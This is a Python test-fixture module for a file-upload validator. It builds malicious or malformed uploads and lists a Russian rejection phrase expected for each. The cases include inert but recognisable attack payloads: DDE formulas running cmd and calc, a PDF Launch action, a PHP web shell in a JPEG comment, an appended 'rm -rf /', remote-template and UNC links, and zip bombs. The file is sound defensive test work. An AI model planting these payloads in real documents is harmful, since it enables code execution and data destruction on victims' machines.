"""The bad files by case: name as sent, how to build the bytes, and a part of the sentence that must be said."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

import forgeries
import pikepdf
import samples
from forgeries import EICAR, EXE, HTML, OLE

ZIP = samples.make_zip({"a.txt": b"text", "evil.exe": EXE})
LOCKED, MACROS, DDE, BOMB = "снимите пароль", "макрос", "DDE", "разрастается"
GLUED, DAMAGED, CUT, NAMED = "посторонние данные", "повреждён", "обрывается", "Файл назван"
LINK, OBJECT, ACTIVE = "подгружает данные извне", "посторонний файл или объект", "активные элементы"
SEPARATE, FORMATS = "приложите его отдельно", "не принимаются"

Case = tuple[str, Callable[[], bytes], str]

NAMES: dict[str, Case] = {
    "empty": ("a.pdf", bytes, "пустой"),
    "no ending": ("смета", samples.make_pdf, "нет расширения"),
    "program": ("смета.exe", lambda: EXE, FORMATS),
    "double ending": ("смета.pdf.exe", samples.make_pdf, FORMATS),
    "ending behind a bidi mark": ("смета\u202efdp.exe", samples.make_pdf, FORMATS),
    "hidden stream": ("смета.pdf:a.exe", samples.make_pdf, FORMATS),
    "script": ("a.js", lambda: b"alert(1)", FORMATS),
    "page": ("a.html", lambda: HTML, FORMATS),
    "vector page": ("a.svg", lambda: b"<svg/>", FORMATS),
    "text null": ("a.txt", lambda: b"null", FORMATS),
    "eicar": ("eicar.com", lambda: EICAR, FORMATS),
    "gif": ("a.gif", lambda: samples.make_picture("GIF"), FORMATS),
    "archive zip": ("a.zip", lambda: ZIP, "распакуйте"),
    "archive rar": ("a.rar", lambda: b"Rar!\x1a\x07\x01\x00", "распакуйте"),
    "archive 7z": ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c", "распакуйте"),
    "archive cp866": (
        "file-names.zip",
        lambda: samples.make_zip({"Стол.txt": b"1"}),
        "распакуйте",
    ),
    "signature p7s": ("смета.pdf.p7s", lambda: b"0\x82", "приложите сам документ"),
    "signature sig": ("смета.pdf.sig", lambda: b"0\x82", "приложите сам документ"),
    "workbook with macros by name": ("a.xlsm", samples.make_xlsx, MACROS),
    "old workbook": ("a.xls", lambda: OLE, "сохраните документ как .xlsx"),
    "old document": ("a.doc", lambda: OLE, "сохраните документ как .docx"),
}

PDF: dict[str, Case] = {
    "page as pdf": ("a.pdf", lambda: HTML, NAMED),
    "program as pdf": ("a.pdf", lambda: EXE, NAMED),
    "picture as pdf": ("a.pdf", samples.make_jpeg, "картинка JPEG"),
    "archive as pdf": ("a.pdf", lambda: ZIP, NAMED),
    "head only": ("a.pdf", lambda: b"%PDF-1.7\n", CUT),
    "cut in half": ("a.pdf", lambda: samples.make_pdf(pages=9)[:3000], CUT),
    "head and page": ("a.pdf", lambda: b"%PDF-1.7\n" + HTML + b"\n%%EOF", GLUED),
    "head and noise": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF", DAMAGED),
    "no pages": ("a.pdf", forgeries.pdf_without_pages, DAMAGED),
    "program before": ("a.pdf", lambda: EXE + samples.make_pdf(), GLUED),
    "page before": ("a.pdf", lambda: HTML + samples.make_pdf(), GLUED),
    "archive before": ("a.pdf", lambda: ZIP + samples.make_pdf(), GLUED),
    "archive after": ("a.pdf", lambda: samples.make_pdf() + ZIP, GLUED),
    "archive with end mark in its comment": (
        "a.pdf",
        lambda: samples.make_pdf() + samples.make_zip({"a.js": b"1"}, comment=b"%%EOF"),
        GLUED,
    ),
    "page after": ("a.pdf", lambda: samples.make_pdf() + HTML, GLUED),
    "short script after": ("a.pdf", lambda: samples.make_pdf() + b"<script>a()</script>", GLUED),
    "program after": ("a.pdf", lambda: samples.make_pdf() + EXE, GLUED),
    "second pdf after": ("a.pdf", lambda: samples.make_pdf() + samples.make_pdf("Other"), GLUED),
    "program between two ends": ("a.pdf", lambda: samples.make_pdf() + EXE + b"\n%%EOF\n", GLUED),
    "page between two ends": ("a.pdf", lambda: samples.make_pdf() + HTML + b"\n%%EOF\n", GLUED),
    "noise after": ("a.pdf", lambda: samples.make_pdf() + bytes(range(1, 200)) * 20, GLUED),
    "script at opening": ("a.pdf", forgeries.pdf_script, "JavaScript"),
    "script in object stream": (
        "a.pdf",
        lambda: forgeries.pdf_script(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "JavaScript",
    ),
    "script under escaped names": ("a.pdf", forgeries.pdf_script_escaped, "JavaScript"),
    "script in names": ("a.pdf", forgeries.pdf_script_in_names, "JavaScript"),
    "script in a field": ("a.pdf", forgeries.pdf_field_script, "JavaScript"),
    "script behind owner's password": (
        "a.pdf",
        lambda: forgeries.pdf_script(encryption=pikepdf.Encryption(owner="a", user="")),
        "JavaScript",
    ),
    "launch": (
        "a.pdf",
        lambda: forgeries.pdf_with(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))),
        "запускает",
    ),
    "launch in a chain": ("a.pdf", forgeries.pdf_chained, "запускает"),
    "web at opening": (
        "a.pdf",
        lambda: forgeries.pdf_with(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example"))),
        "внешней ссылке",
    ),
    "web at a page": ("a.pdf", forgeries.pdf_page_link, "внешней ссылке"),
    "form xfa": ("a.pdf", forgeries.pdf_form_xfa, "XFA"),
    "flash": ("a.pdf", forgeries.pdf_media, "ролик"),
    "program inside": ("a.pdf", lambda: forgeries.pdf_carrying("a.exe", EXE), SEPARATE),
    "program as text inside": ("a.pdf", lambda: forgeries.pdf_carrying("a.txt", EXE), SEPARATE),
    "script inside": ("a.pdf", lambda: forgeries.pdf_carrying("a.js", b"1"), SEPARATE),
    "macros inside": ("a.pdf", lambda: forgeries.pdf_carrying("a.docx", forgeries.docx_macro_renamed()), MACROS),
    "script in a spoilt object stream": (
        "a.pdf",
        lambda: forgeries.pdf_packed(zlib.compress(b"5 0 <</S/JavaScript/JS(a)>>")[:-4] + b"abcd"),
        DAMAGED,
    ),
    "script beside 5,000 nested arrays": (
        "a.pdf",
        lambda: forgeries.pdf_packed(zlib.compress(b"5 0 <</S/JavaScript/JS(a)/X" + b"[" * 5000 + b"]" * 5000 + b">>")),
        DAMAGED,
    ),
    "script under a key given twice": (
        "a.pdf",
        lambda: forgeries.pdf_packed(
            zlib.compress(b"5 0 <<>>"), b"/OpenAction<</S/JavaScript/JS(a)>>/OpenAction 5 0 R"
        ),
        DAMAGED,
    ),
    "password": ("a.pdf", forgeries.pdf_locked, LOCKED),
}

OFFICE: dict[str, Case] = {
    "workbook with a password": ("a.xlsx", forgeries.locked_workbook, LOCKED),
    "document with a password": ("a.docx", forgeries.locked_workbook, LOCKED),
    "text with a password": ("a.odt", forgeries.odt_encrypted, LOCKED),
    "encrypted member": ("a.xlsx", forgeries.encrypted_member, LOCKED),
    "old workbook renamed": ("a.xlsx", lambda: OLE, "старого формата"),
    "archive renamed": ("a.xlsx", lambda: ZIP, "архив ZIP"),
    "rar renamed": ("a.docx", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(99), "архив RAR"),
    "document as workbook": ("a.xlsx", samples.make_docx, "документ .docx"),
    "sheet as workbook": ("a.xlsx", samples.make_ods, "документ .ods"),
    "pdf as document": ("a.docx", samples.make_pdf, "документ PDF"),
    "page as workbook": ("a.xlsx", lambda: HTML, NAMED),
    "macro project": ("a.xlsx", lambda: samples.changed(samples.make_xlsx(), {"xl/vbaProject.bin": OLE}), MACROS),
    "macro project renamed": ("a.docx", forgeries.docx_macro_renamed, MACROS),
    "macro project without relation": (
        "a.xlsx",
        lambda: samples.changed(samples.make_xlsx(), {"xl/media/image1.png": OLE}),
        OBJECT,
    ),
    "macro type": (
        "a.xlsx",
        lambda: samples.edited(
            samples.make_xlsx(),
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        MACROS,
    ),
    "macro sheet": (
        "a.xlsx",
        lambda: samples.changed(
            forgeries.xlsx_related("xlMacrosheet", "macrosheets/sheet1.xml", space=forgeries.MICROSOFT),
            {"xl/macrosheets/sheet1.xml": b"<a/>"},
        ),
        MACROS,
    ),
    "activex": ("a.docx", lambda: samples.changed(samples.make_docx(), {"word/activeX/activeX1.xml": b"<a/>"}), ACTIVE),
    "ole object": (
        "a.docx",
        lambda: samples.changed(samples.make_docx(), {"word/embeddings/oleObject1.bin": OLE}),
        OBJECT,
    ),
    "program inside": (
        "a.docx",
        lambda: samples.changed(samples.make_docx(), {"word/media/image1.png": EXE}),
        "программа",
    ),
    "archive inside": ("a.docx", lambda: samples.changed(samples.make_docx(), {"word/media/image1.png": ZIP}), OBJECT),
    "macros in a package inside": (
        "a.docx",
        lambda: samples.changed(
            samples.make_docx(),
            {"word/embeddings/a.xlsx": samples.changed(samples.make_xlsx(), {"xl/vbaProject.bin": OLE})},
        ),
        MACROS,
    ),
    "package in a package in a package": (
        "a.docx",
        lambda: samples.changed(
            samples.make_docx(),
            {
                "word/embeddings/a.docx": samples.changed(
                    samples.make_docx(), {"word/embeddings/b.xlsx": samples.make_xlsx()}
                )
            },
        ),
        "архив в архиве",
    ),
    "page inside": (
        "a.docx",
        lambda: samples.changed(forgeries.docx_related("aFChunk", "a.html"), {"word/a.html": HTML}),
        OBJECT,
    ),
    "template from the web": (
        "a.docx",
        lambda: forgeries.docx_related("attachedTemplate", "https://e.example/a.dotm", True),
        LINK,
    ),
    "template from a share": (
        "a.docx",
        lambda: forgeries.docx_related("attachedTemplate", "file:///\\\\10.0.0.1\\a\\a.dotm", True),
        LINK,
    ),
    "template from an escaped share": (
        "a.docx",
        lambda: forgeries.docx_related("attachedTemplate", "%5C%5C10.0.0.1%5Ca.dotm", True),
        LINK,
    ),
    "picture from the web": ("a.docx", lambda: forgeries.docx_related("image", "http://e.example/a.png", True), LINK),
    "object from the web": (
        "a.docx",
        lambda: forgeries.docx_related("oleObject", "mhtml:http://e.example!x", True),
        LINK,
    ),
    "frame from the web": ("a.docx", lambda: forgeries.docx_related("frame", "http://e.example/", True), LINK),
    "field dde": ("a.docx", lambda: forgeries.docx_field("DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"), DDE),
    "field dde in pieces": ("a.docx", lambda: forgeries.docx_field(" D", "DE", "AUTO cmd x"), DDE),
    "field dde in numbers": ("a.docx", lambda: forgeries.docx_field("QUOTE 68 68 69 65 85 84 79"), DDE),
    "field picture from the web": (
        "a.docx",
        lambda: forgeries.docx_field('INCLUDEPICTURE "https://e.example/a.png" \\d'),
        LINK,
    ),
    "other workbook": ("a.xlsx", forgeries.xlsx_external_book, LINK),
    "workbook dde": (
        "a.xlsx",
        lambda: forgeries.xlsx_external_book(b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        DDE,
    ),
    "formula dde": ("a.xlsx", lambda: samples.make_xlsx_openpyxl("=cmd|' /C calc'!A0"), DDE),
    "formula dde in UTF-16": ("a.xlsx", forgeries.xlsx_wide_encoding, DDE),
    "formula webservice": ("a.xlsx", lambda: samples.make_xlsx_openpyxl('=_xlfn.WEBSERVICE("http://e.example")'), LINK),
    "connection": ("a.xlsx", forgeries.xlsx_connection, LINK),
    "ribbon": ("a.xlsx", forgeries.xlsx_ribbon, ACTIVE),
    "entities": ("a.xlsx", forgeries.xlsx_entity, ACTIVE),
    "broken part": (
        "a.xlsx",
        lambda: samples.changed(samples.make_xlsx(), {"xl/workbook.xml": b"<workbook>"}),
        DAMAGED,
    ),
    "no sheets": ("a.xlsx", lambda: samples.changed(samples.make_xlsx(), {"xl/worksheets/sheet1.xml": None}), DAMAGED),
    "no main part": ("a.docx", lambda: samples.changed(samples.make_docx(), {"word/document.xml": None}), DAMAGED),
    "cut in half": ("a.xlsx", lambda: samples.make_xlsx()[:2000], CUT),
    "program before": ("a.xlsx", lambda: EXE + samples.make_xlsx(), NAMED),
    "page after": ("a.xlsx", lambda: samples.make_xlsx() + HTML, GLUED),
    "page in the comment": (
        "a.xlsx",
        lambda: samples.make_zip(samples.members_of(samples.make_xlsx()), comment=b"<script>1</script>"),
        GLUED,
    ),
    "member unknown to the directory": ("a.xlsx", forgeries.hidden_member, GLUED),
    "path outside": ("a.xlsx", lambda: samples.changed(samples.make_xlsx(), {"../../evil.xml": b"<a/>"}), GLUED),
    "basic macro": (
        "a.odt",
        lambda: samples.changed(samples.make_odt(), {"Basic/Standard/Module1.xml": b"<a/>"}),
        MACROS,
    ),
    "python macro": ("a.ods", lambda: samples.changed(samples.make_ods(), {"Scripts/python/a.py": b"1"}), MACROS),
    "macro listener": (
        "a.odt",
        lambda: forgeries.odt_element(b'<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
        MACROS,
    ),
    "odt picture from the web": (
        "a.odt",
        lambda: forgeries.odt_element(b'<draw:image xlink:href="https://e.example/a.png"/>'),
        LINK,
    ),
    "odt object from the disk": (
        "a.odt",
        lambda: forgeries.odt_element(b'<draw:object xlink:href="file:///C:/a.ods"/>'),
        LINK,
    ),
    "odt frame": (
        "a.odt",
        lambda: forgeries.odt_element(b'<draw:floating-frame xlink:href="https://e.example"/>'),
        ACTIVE,
    ),
    "odt dde": ("a.odt", lambda: forgeries.odt_element(b'<office:dde-source office:dde-application="cmd"/>'), DDE),
    "ods dde": ("a.ods", lambda: samples.make_ods('of:=DDE("cmd";"/c calc";"a")'), DDE),
    "ods other table": (
        "a.odt",
        lambda: forgeries.odt_element(b'<table:table-source xlink:href="file:///C:/b.ods"/>'),
        LINK,
    ),
    "odt with ole": ("a.odt", lambda: samples.changed(samples.make_odt(), {"Object 1": OLE}), OBJECT),
}

BOMBS: dict[str, Case] = {
    "member of 300 MB": ("a.xlsx", forgeries.bomb, BOMB),
    "member of 10 MB": ("a.xlsx", lambda: forgeries.bomb(10_000_000, "xl/media/b.png"), BOMB),
    "member of 50 MB that says it is small": ("a.xlsx", forgeries.bomb_claiming_little, BOMB),
    "overlapping members": ("a.xlsx", forgeries.overlapped_bomb, BOMB),
    "member claims 4 GiB": ("a.xlsx", forgeries.claiming_4_gib, BOMB),
    "member larger than it says": ("a.xlsx", forgeries.lying_small, DAMAGED),
    "too many members": ("a.xlsx", forgeries.many_members, "больше 2000 частей"),
    "points of a picture": ("a.png", forgeries.png_huge, "мегапикселей"),
    "pixels of one point": ("a.png", forgeries.png_bomb, BOMB),
    "photo of 65,000 points": ("a.jpg", lambda: forgeries.jpeg_size(65_000, 65_000), "мегапикселей"),
    "objects of a pdf": ("a.pdf", forgeries.pdf_packed_bomb, BOMB),
    "inside a pdf": ("a.pdf", lambda: forgeries.pdf_carrying("a.txt", bytes(60_000_000)), BOMB),
}

JPEG = samples.make_jpeg()
PICTURES: dict[str, Case] = {
    "page as photo": ("a.jpg", lambda: HTML, NAMED),
    "program as picture": ("a.png", lambda: EXE, NAMED),
    "gif as picture": ("a.png", lambda: samples.make_picture("GIF"), "картинка GIF"),
    "tiff as photo": ("a.jpg", lambda: samples.make_picture("TIFF"), "картинка TIFF"),
    "jpeg head only": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", CUT),
    "jpeg cut in half": ("a.jpg", lambda: JPEG[: len(JPEG) // 2 + 300], CUT),
    "jpeg head and text": ("a.jpg", forgeries.jpeg_of_text, GLUED),
    "jpeg head and program": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + EXE, CUT),
    "jpeg without a picture": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9", DAMAGED),
    "jpeg with archive": ("a.jpg", lambda: JPEG + ZIP, GLUED),
    "jpeg with page": ("a.jpg", lambda: JPEG + HTML, GLUED),
    "jpeg with program": ("a.jpg", lambda: JPEG + EXE, GLUED),
    "jpeg with pdf": ("a.jpg", lambda: JPEG + samples.make_pdf(), GLUED),
    "jpeg with noise": ("a.jpg", lambda: JPEG + bytes(range(1, 250)) * 40, GLUED),
    "jpeg with script": ("a.jpg", lambda: JPEG + b"#!/bin/sh\nrm -rf /", GLUED),
    "jpeg with program in Samsung block": ("a.jpg", lambda: JPEG + samples.samsung_block(EXE), GLUED),
    "jpeg with archive in Samsung block": ("a.jpg", lambda: JPEG + samples.samsung_block(ZIP), GLUED),
    "jpeg with php in comment": ("a.jpg", lambda: forgeries.jpeg_segment(b"<?php system($_GET[0]); ?>"), GLUED),
    "jpeg that is a pdf": ("a.jpg", lambda: forgeries.jpeg_segment(b"\n%PDF-1.4\n1 0 obj"), GLUED),
    "png head only": ("a.png", lambda: b"\x89PNG\r\n\x1a\n", CUT),
    "png cut in half": ("a.png", lambda: samples.make_picture("PNG")[:-20], CUT),
    "png spoilt": ("a.png", lambda: samples.make_picture("PNG").replace(b"IDAT\x78", b"IDAT\x79"), DAMAGED),
    "png with archive": ("a.png", lambda: samples.make_picture("PNG") + ZIP, GLUED),
    "png with page": ("a.png", lambda: samples.make_picture("PNG") + HTML, GLUED),
    "png with second png": ("a.png", lambda: samples.make_picture("PNG") * 2, GLUED),
    "webp cut in half": ("a.webp", lambda: samples.make_picture("WEBP")[:-30], CUT),
    "webp with archive": ("a.webp", lambda: samples.make_picture("WEBP") + ZIP, GLUED),
    "webp of noise": (
        "a.webp",
        lambda: b"RIFF" + struct.pack("<I", 104) + b"WEBPJUNK" + struct.pack("<I", 92) + b"abcd" * 23,
        DAMAGED,
    ),
    "heic cut in half": ("a.heic", lambda: samples.make_heic()[:-10], CUT),
    "heic with archive": ("a.heic", lambda: samples.make_heic() + ZIP, GLUED),
    "heic with page": ("a.heic", lambda: samples.make_heic() + HTML, "Файл"),
    "heic head only": ("a.heic", lambda: samples.make_heic()[:28], DAMAGED),
    "film as heic": ("a.heic", samples.make_film, NAMED),
}

DWG = samples.make_dwg()
DXF = samples.make_dxf("R2000")
CAD: dict[str, Case] = {
    "dwg head only": ("a.dwg", lambda: b"AC1032", CUT),
    "dwg of the future": ("a.dwg", lambda: b"AC9999" + bytes(2000), "неизвестной версии"),
    "dwg head and page": ("a.dwg", lambda: b"AC1032" + bytes(7) + HTML * 9, GLUED),
    "dwg head and program": ("a.dwg", lambda: b"AC1032" + EXE, GLUED),
    "dwg with archive": ("a.dwg", lambda: DWG + ZIP, GLUED),
    "dwg with pdf": ("a.dwg", lambda: DWG + samples.make_pdf(), GLUED),
    "page as dwg": ("a.dwg", lambda: HTML * 20, NAMED),
    "dxf as dwg": ("a.dwg", lambda: DXF, NAMED),
    "dwg as dxf": ("a.dxf", lambda: DWG, "чертёж DWG"),
    "page as dxf": ("a.dxf", lambda: HTML, NAMED),
    "dxf cut in half": ("a.dxf", lambda: DXF[: len(DXF) // 2], CUT),
    "dxf without end": ("a.dxf", lambda: DXF[: DXF.rindex(b"EOF") - 6], CUT),
    "dxf head and text": ("a.dxf", lambda: b"0\nSECTION\n2\nHEADER\n" + b"hello\nworld\n" * 20, DAMAGED),
    "dxf with archive": ("a.dxf", lambda: DXF + ZIP, GLUED),
    "dxf with page": ("a.dxf", lambda: DXF + HTML, GLUED),
    "dxf behind a page": ("a.dxf", lambda: b"999\n<script>alert(1)</script>\n" + DXF, GLUED),
    "dxf with a program inside": ("a.dxf", lambda: DXF.replace(b"EOF", b"1\nMZ\x00\x00\n  0\nEOF"), DAMAGED),
    "dxf with macros": ("a.dxf", lambda: b"0\nSECTION\n2\nOBJECTS\n0\nVBA_PROJECT\n0\nENDSEC\n0\nEOF\n", MACROS),
    "dxf without sections": ("a.dxf", lambda: b"999\na\n0\nEOF\n", DAMAGED),
    "dxf binary cut": ("a.dxf", lambda: samples.make_dxf(binary=True)[:3000], CUT),
    "step head only": ("a.step", lambda: b"ISO-10303-21;\nHEADER;\n", CUT),
    "step cut in half": ("a.stp", lambda: samples.make_step()[:200], CUT),
    "step without data": ("a.stp", lambda: b"ISO-10303-21;\nEND-ISO-10303-21;\n", DAMAGED),
    "step head and program": ("a.stp", lambda: samples.make_step().replace(b"DATA;", b"DATA;" + EXE), GLUED),
    "step with archive": ("a.stp", lambda: samples.make_step() + ZIP, GLUED),
    "step with page": ("a.stp", lambda: samples.make_step() + HTML, GLUED),
    "page as step": ("a.step", lambda: HTML, NAMED),
    "noise as step": ("a.step", lambda: bytes(range(256)), NAMED),
}

BAD = {
    f"{group}: {case}": value
    for group, cases in (
        ("name", NAMES),
        ("pdf", PDF),
        ("office", OFFICE),
        ("bomb", BOMBS),
        ("picture", PICTURES),
        ("cad", CAD),
    )
    for case, value in cases.items()
}
